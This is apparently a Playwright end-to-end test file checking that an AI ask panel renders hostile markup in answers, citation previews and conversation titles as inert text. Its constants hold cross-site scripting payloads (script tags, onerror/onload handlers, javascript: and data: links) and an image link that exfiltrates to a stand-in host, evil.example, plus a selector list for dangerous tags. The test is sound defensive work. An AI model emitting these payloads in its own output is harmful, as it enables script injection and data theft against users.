"""Hostile text from wherever it comes: a reader sees it, nothing runs, nothing is loaded, nothing is submitted."""

from playwright.sync_api import Page, Request, expect

from e2e.ask_panel import AskPanel
from e2e.product import Product
from e2e.scripted_answer import Cited, script_answer

START = "docs/start/what-is-booklight"
ELSEWHERE = "https://evil.example/"
PICTURE = "<img src=x onerror='window.pwned = 1'>"
SCRIPT = "<script>window.pwned = 1</script>"
ANSWER = f"""It is here. {SCRIPT} {PICTURE} <svg onload='window.pwned = 1'> <iframe src='{ELSEWHERE}'></iframe>

![secret]({ELSEWHERE}?stolen) [click](javascript:window.pwned=1) [data](data:text/html,{SCRIPT})
<form action='{ELSEWHERE}'>

```html
{SCRIPT}
```
"""
TAGS = "script, img, svg[onload], iframe, form[action], object, embed, link, base"


def test_script_in_an_answer_is_never_run(laptop_product: Product, page: Page, assistant: AskPanel) -> None:
    asked = requests_elsewhere(page)
    page.goto(laptop_product.page(START))
    script_answer(page, ANSWER)
    assistant.open().send("What is Booklight?")
    expect(assistant.log).to_contain_text("It is here.")
    expect(assistant.log).to_contain_text(SCRIPT)
    expect_harmless(page, assistant)
    assert asked == []


def test_script_in_a_heading_is_shown_as_text(laptop_product: Product, page: Page, assistant: AskPanel) -> None:
    page.goto(laptop_product.page(START))
    script_answer(page, "It is here.", Cited("here.", START, f"Heading {PICTURE}", f"Quoted {SCRIPT}"))
    assistant.open().send("What is Booklight?")
    assistant.citations.first.hover()
    expect(assistant.preview).to_contain_text(PICTURE)
    expect(assistant.preview).to_contain_text(SCRIPT)
    expect_harmless(page, assistant)


def test_script_in_the_title_of_a_conversation_is_shown_as_text(
    laptop_product: Product, page: Page, assistant: AskPanel
) -> None:
    page.goto(laptop_product.page(START))
    assistant.open().ask(PICTURE)
    assistant.panel.get_by_role("button", name="Earlier conversations").click()
    expect(assistant.panel.get_by_role("listitem").first).to_contain_text(PICTURE)
    expect_harmless(page, assistant)


def requests_elsewhere(page: Page) -> list[str]:
    """Return a list that fills with what the page asks of another site."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if request.url.startswith(ELSEWHERE):
            asked.append(request.url)

    page.on("request", note)
    return asked


def expect_harmless(page: Page, assistant: AskPanel) -> None:
    """Fail if anything was run, or stands in the conversation that could be."""
    assert page.evaluate("window.pwned") is None
    assert assistant.panel.get_by_role("log").locator(TAGS).count() == 0
    assert assistant.panel.locator("a[href^='javascript:'], a[href^='data:'], [onerror], [onload]").count() == 0
